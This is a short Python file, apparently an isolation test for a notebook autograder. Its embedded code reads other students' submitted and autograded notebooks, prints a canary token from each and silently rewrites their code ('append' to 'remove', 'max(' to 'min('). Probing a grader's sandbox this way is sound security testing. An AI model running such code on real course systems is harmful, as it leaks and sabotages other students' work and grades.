"""Reads and overwrites the submissions and graded notebooks of other students."""

FIRST = """
import glob
for path in glob.glob("@COURSE@/submitted/*/*/*.ipynb") + glob.glob("@COURSE@/autograded/*/*/*.ipynb"):
    if "@STUDENT@" not in path:
        try:
            text = open(path).read()
            print(text[text.find("canary-"):][:80])
            open(path, "w").write(text.replace("append", "remove").replace("max(", "min("))
        except Exception as error:
            print(type(error).__name__, error)
"""
